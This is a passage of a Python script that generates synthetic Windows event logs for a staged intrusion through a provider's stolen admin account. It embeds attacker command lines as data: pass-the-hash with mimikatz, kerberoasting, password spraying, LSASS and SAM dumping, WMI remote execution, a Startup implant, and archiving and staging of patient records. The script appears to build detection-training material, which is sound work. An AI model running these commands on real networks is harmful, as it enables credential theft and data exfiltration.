        explicit(tt, "CD-FS01", "CONTOSO\\CD-FS01$", b, fqdn(server), SYS32 + "taskhostw.exe", ip(server))
        kerberos_net(tt + 0.2, server, b, "CD-FS01")

    # Northwind's backup server backs up the provider's servers at 01:00...
    nb = "NORTHWIND\\nw-backup"
    t = local(day, 1, 0, rng.uniform(0, 30))
    logon(t, "NW-BKP01", nb, 5, "-", "-", "Negotiate", process=SERVICES)
    for k, server in enumerate(["NW-DC01", "NW-FS01", "NW-JUMP01", "NW-JUMP02"]):
        kerberos_net(t + 60 + k * 170 + rng.uniform(0, 20), server, nb, "NW-BKP01")
    # ...and Fabrikam's at 02:00, with the account it keeps for Fabrikam.
    fb = "FABRIKAM\\nw-backup"
    t = local(day, 2, 0, rng.uniform(0, 30))
    for k, server in enumerate(["FB-DC01", "FB-FS01", "FB-SQL01", "FB-APP01"]):
        tt = t + k * 330 + rng.uniform(0, 20)
        explicit(tt, "NW-BKP01", nb, fb, fqdn(server), "C:\\Program Files\\Northwind Backup\\nwbackup-worker.exe", ip(server))
        ntlm_net(tt + 0.3, server, fb, "NW-BKP01")

    # Services restarted by the nightly maintenance, and a scheduled task.
    for host, account in [("CD-APP01", "CONTOSO\\svc-dentrix"), ("FB-SQL01", "FABRIKAM\\svc-sql"), ("FB-APP01", "FABRIKAM\\svc-dms")]:
        logon(local(day, 3, 0, rng.uniform(0, 300)), host, account, 5, "-", "-", "Negotiate", process=SERVICES)
    t = local(day, 3, 20, rng.uniform(0, 60))
    explicit(t, "FB-APP01", "FABRIKAM\\FB-APP01$", "FABRIKAM\\svc-dms", "localhost", SVCHOST, "::1")
    logon(t + 0.1, "FB-APP01", "FABRIKAM\\svc-dms", 4, "-", "-", "Negotiate", process=SVCHOST)
    sysmon(t + 1.5, "FB-APP01", "FABRIKAM\\svc-dms", "C:\\Program Files\\Fabrikam DMS\\dmsindex.exe",
           '"C:\\Program Files\\Fabrikam DMS\\dmsindex.exe" /rebuild /matters:changed', SYS32 + "taskhostw.exe", "taskhostw.exe")


for day in range(3):
    night(day)
    ordinary_day(day)

# ---- the third night: the provider's admin account, stolen -------------------------
# 02:30 local (07:30 UTC) on Wednesday 2026-11-04. The intruder holds the
# password of NORTHWIND\nw-admin and comes in through the provider's VPN.
D = 2
NA, CA, FA = "NORTHWIND\\nw-admin", "CONTOSO\\nw-admin", "FABRIKAM\\nw-admin"
PTH = "C:\\ProgramData\\nwupd\\nwupd.exe"
t = local(D, 2, 30, 5)
rdp(t, "DESKTOP-R8N2KQ1", "NW-JUMP02", NA)
sysmon(t + 215, "NW-JUMP02", NA, CMD, '"C:\\Windows\\system32\\cmd.exe" ', EXPLORER, EXPLORER_CMD, "High")
# A renamed credential tool, driven from its own console: pass-the-hash with
# the NT hash of FABRIKAM\nw-admin gives a new process Fabrikam's admin on
# the network (logon type 9 through seclogo).
sysmon(local(D, 2, 36, 0), "NW-JUMP02", NA, PTH, PTH, CMD, "cmd.exe", "High", "mimikatz.exe")
logon(local(D, 2, 37, 10), "NW-JUMP02", NA, 9, "::1", "-", "Negotiate", process=PTH, outbound=FA, subject=(NA, sid(NA)))
sysmon(local(D, 2, 37, 11), "NW-JUMP02", NA, CMD, "cmd.exe", PTH, PTH, "High")
# Walking Fabrikam with it: NTLM network logons without a session key.
for k, (host, second) in enumerate([("FB-FS01", 0), ("FB-DC01", 45), ("FB-SQL01", 130), ("FB-APP01", 205), ("FB-WS205", 290), ("FB-WS207", 345)]):
    tt = local(D, 2, 38, 20 + second)
    sysmon(tt - 0.6, "NW-JUMP02", NA, SYS32 + "net.exe", f"net use \\\\{fqdn(host)}\\C$", CMD, "cmd.exe", "High")
    ntlm_net(tt, host, FA, "NW-JUMP02", key_length=0)
# Then Contoso over RDP, as CONTOSO\nw-admin, whose password is the same one
# the provider keeps for Contoso: the file server, the DC, the Dentrix server.
for host, at in [("CD-FS01", local(D, 2, 50, 10)), ("CD-DC01", local(D, 2, 58, 30)), ("CD-APP01", local(D, 3, 6, 40))]:
    sysmon(at - 3, "NW-JUMP02", NA, MSTSC, f'"C:\\Windows\\system32\\mstsc.exe" /v:{fqdn(host)}', EXPLORER, EXPLORER_CMD, "High")
    tt = rdp(at, "NW-JUMP02", host, CA)
    if host == "CD-FS01":
        # A foothold for the day: the implant copied into the Startup folder
        # of dchen, who works at CD-WS017, over its admin share.
        sysmon(tt + 400, host, CA, CMD, 'cmd.exe /c copy C:\\Users\\nw-admin\\Downloads\\OneDriveSync.exe "\\\\CD-WS017\\C$\\Users\\dchen\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"',
               EXPLORER, EXPLORER_CMD, "High")
        kerberos_net(tt + 401, "CD-WS017", CA, "CD-FS01")
    elif host == "CD-DC01":
        sysmon(tt + 30, host, CA, MMC, '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\dsa.msc"', EXPLORER, EXPLORER_CMD, "High")
    else:
        sysmon(tt + 40, host, CA, "C:\\Program Files (x86)\\Microsoft SQL Server Management Studio 19\\Common7\\IDE\\Ssms.exe",
               '"C:\\Program Files (x86)\\Microsoft SQL Server Management Studio 19\\Common7\\IDE\\Ssms.exe"', EXPLORER, EXPLORER_CMD, "High")

# ---- the third day: Contoso from the workstation of dchen ---------------------------
# dchen logged on as every morning (ordinary_day); the implant starts with the desktop.
U = "CONTOSO\\dchen"
W = "CD-WS017"
IMPLANT = "C:\\Users\\dchen\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\OneDriveSync.exe"
dchen_logon = min(ms for ms, _, ev in events
                  if ev.get("EventID") == 4624 and ev.get("TargetUserName") == "dchen" and ev.get("LogonType") == 2 and ms >= local(D, 0) * 1000)
t = dchen_logon / 1000 + 25
sysmon(t, W, U, IMPLANT, f'"{IMPLANT}"', EXPLORER, EXPLORER_CMD, "Medium", "OneDriveSync.exe")
for dt, image, cmd in [
    (3700, SYS32 + "whoami.exe", "whoami /groups"),
    (3712, SYS32 + "net.exe", 'net group "Domain Admins" /domain'),
    (3725, SYS32 + "nltest.exe", "nltest /dclist:contoso.local"),
]:
    sysmon(t + dt, W, U, image, cmd, CMD, "cmd.exe /c", "Medium")

# 09:10 local: kerberoasting. Service tickets in RC4 for every account with an SPN.
t = local(D, 9, 9, 0)
sysmon(t, W, U, SYS32 + "setspn.exe", "setspn -T contoso.local -Q */*", CMD, "cmd.exe /c", "Medium")
spns = ",".join(f"'{s}'" for s in CD_SPNS.values())
sysmon(t + 50, W, U, PS, f'powershell.exe -nop -c "Add-Type -AssemblyName System.IdentityModel; {spns} | % {{ New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $_ }}"',
       IMPLANT, f'"{IMPLANT}"', "Medium")
for k, service in enumerate(CD_SPNS):
    tgs(t + 52 + k * rng.uniform(0.3, 1.2), U, service, W, "0x17", "0x40810010")

# 09:25 local: one password tried for many accounts over SMB against the file
# server (4625 there, 4776 on the DC)...
SPRAYED = ["jsmith", "mlopez", "akhan", "rpatel", "kmuller", "front-desk", "scanner", "svc-backup", "svc-dentrix",
           "svc-imaging", "nw-helpdesk", "nw-admin", "Administrator"]
t = local(D, 9, 25, 0)
for name in SPRAYED:
    t += rng.uniform(5, 10)
    failed(t, "CD-FS01", f"CONTOSO\\{name}", 3, ip(W), W)
    ntlm_check(t + 0.02, f"CONTOSO\\{name}", W, "0xc000006a")
# ...then another through Kerberos pre-authentication against the DC (4771).
t = local(D, 9, 40, 0)
for name in SPRAYED[:10] + ["svc-portal", "svc-pacs"]:
    t += rng.uniform(2, 6)
    preauth_failed(t, f"CONTOSO\\{name}", W)
# 09:55 local: the copier's account, guessed until it works.
t = local(D, 9, 55, 0)
for _ in range(22):
    t += rng.uniform(8, 11)
    failed(t, "CD-FS01", "CONTOSO\\scanner", 3, ip(W), W)
    ntlm_check(t + 0.02, "CONTOSO\\scanner", W, "0xc000006a")
ntlm_net(t + 9.5, "CD-FS01", "CONTOSO\\scanner", W)

# 10:30 local: svc-backup, whose RC4 ticket cracked offline, runs commands on
# the file server through WMI: each one a network logon, then the command.
# Discovery, then the SAM and SYSTEM hives and LSASS's memory.
B = "CONTOSO\\svc-backup"
WMIC = SYS32 + "wbem\\WMIC.exe"
WMIPRVSE = SYS32 + "wbem\\WmiPrvSE.exe"
t = local(D, 10, 30, 0)
for dt, inner in [
    (0, [(SYS32 + "whoami.exe", "whoami  /priv")]),
    (80, [(SYS32 + "net.exe", "net  localgroup administrators"), (SYS32 + "net1.exe", "C:\\Windows\\system32\\net1  localgroup administrators")]),
    (185, [(SYS32 + "reg.exe", "reg  save hklm\\sam C:\\Windows\\Temp\\sam.save /y"), (SYS32 + "reg.exe", "reg  save hklm\\system C:\\Windows\\Temp\\system.save /y")]),
    (340, [(SYS32 + "rundll32.exe", "rundll32.exe  C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\Windows\\Temp\\fs.dmp full")]),
]:
    tt = t + dt + rng.uniform(0, 5)
    command = "cmd.exe /c " + " & ".join(c for _, c in inner if "net1" not in c) + " > C:\\Windows\\Temp\\wmi.out 2>&1"
    sysmon(tt, W, U, WMIC, f'wmic /node:CD-FS01 /user:CONTOSO\\svc-backup /password:"Backup#2019" process call create "{command}"',
           CMD, "cmd.exe /c", "Medium", "wmic.exe")
    explicit(tt + 0.4, W, U, B, "CD-FS01", WMIC, ip("CD-FS01"))
    if dt == 0:
        tgt(tt + 0.5, B, W)
    kerberos_net(tt + 0.6, "CD-FS01", B, W)
    sysmon(tt + 1.1, "CD-FS01", B, CMD, command, WMIPRVSE, "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "High")
    for k, (image, cmd) in enumerate(inner):
        parent, parent_cmd = (SYS32 + "net.exe", "net  localgroup administrators") if "net1" in cmd else (CMD, command)
        sysmon(tt + 1.5 + k * 1.7, "CD-FS01", B, image, cmd, parent, parent_cmd, "High")
# The files fetched back to the workstation over the admin share.
t = local(D, 10, 37, 0)
sysmon(t, W, U, SYS32 + "net.exe", "net use \\\\CD-FS01\\C$ /user:CONTOSO\\svc-backup Backup#2019", CMD, "cmd.exe /c", "Medium")
explicit(t + 0.3, W, U, B, "CD-FS01", SYS32 + "net.exe", ip("CD-FS01"))
kerberos_net(t + 0.5, "CD-FS01", B, W)
sysmon(t + 4, W, U, CMD, "cmd.exe /c copy \\\\CD-FS01\\C$\\Windows\\Temp\\*.save C:\\ProgramData\\ms\\ & copy \\\\CD-FS01\\C$\\Windows\\Temp\\fs.dmp C:\\ProgramData\\ms\\",
       IMPLANT, f'"{IMPLANT}"', "Medium")

# 10:50 local: svc-backup on the file server's desktop, to browse the patient records.
t = local(D, 10, 50, 0)
sysmon(t - 2, W, U, MSTSC, '"C:\\Windows\\system32\\mstsc.exe" /v:CD-FS01', IMPLANT, f'"{IMPLANT}"', "Medium")
tt = rdp(t, W, "CD-FS01", B)
sysmon(tt + 420, "CD-FS01", B, "C:\\Program Files\\7-Zip\\7z.exe", '"C:\\Program Files\\7-Zip\\7z.exe" a -pDent2026! -mhe=on C:\\Windows\\Temp\\pr.7z D:\\Shares\\Patients',
       EXPLORER, EXPLORER_CMD, "High", "7z.exe")

# 11:05 local: where does Contoso's copy of the provider's admin account open
# C$? Explicit credentials for one workstation after another.
t = local(D, 11, 5, 0)
for host, _ in [h for h in CD_STAFF if h[0] != W]:
    t += rng.uniform(10, 18)
    sysmon(t, W, U, SYS32 + "net.exe", f"net use \\\\{host}\\C$ /user:CONTOSO\\nw-admin Dent@lNW-2026", CMD, "cmd.exe /c", "Medium")
    explicit(t + 0.3, W, U, CA, host, SYS32 + "net.exe", ip(host))
    if host == "CD-WS011":
        tgt(t + 0.35, CA, W)
    kerberos_net(t + 0.5, host, CA, W)

# 13:25 local: and back into the provider: its transfer share, as NORTHWIND\nw-admin
# from Contoso's network, over the site-to-site link, to stage the archive.
t = local(D, 13, 25, 0)
sysmon(t, W, U, SYS32 + "net.exe", "net use \\\\NW-FS01.northwind.local\\transfer /user:NORTHWIND\\nw-admin Nw!Adm1n-2026", CMD, "cmd.exe /c", "Medium")
explicit(t + 0.3, W, U, NA, "NW-FS01.northwind.local", SYS32 + "net.exe", ip("NW-FS01"))
ntlm_net(t + 0.5, "NW-FS01", NA, W)
sysmon(t + 30, W, U, SYS32 + "Robocopy.exe", "robocopy C:\\ProgramData\\ms \\\\NW-FS01.northwind.local\\transfer\\cd-q4 /R:0 /W:0", CMD, "cmd.exe /c", "Medium")

# ---- out ------------------------------------------------------------------------------
events.sort(key=lambda e: (e[0], e[1]))
records = {}
for _, _, ev in events:
    key = (ev["Computer"], ev["Channel"])
    if key not in records:
        records[key] = rng.randrange(20000, 900000)
    records[key] += rng.randrange(1, 4)
    ev["EventRecordID"] = records[key]
    print(json.dumps(ev, ensure_ascii=False))
